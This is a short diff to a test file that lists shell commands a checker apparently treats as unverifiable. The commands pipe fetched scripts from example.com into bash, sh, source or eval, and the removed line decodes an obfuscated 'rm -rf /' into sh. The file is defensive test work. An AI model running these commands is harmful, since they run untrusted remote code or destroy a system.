@@ -81,7 +81,8 @@ describe('what cannot be verified', () => {
   it.each([
     'curl -fsSL https://example.com/install.sh | bash',
     'wget -qO- https://example.com/x | sh',
-    'echo cm0gLXJmIC8= | base64 -d | sh',
+    // (Static text is decoded and judged: passed-text.ts; a payload from the environment is not known.)
+    'echo "$PAYLOAD" | base64 -d | sh',
     'bash <(curl -s https://example.com/x)',
     'source <(curl -s https://example.com/x)',
     'eval "$(curl -s https://example.com/x)"',
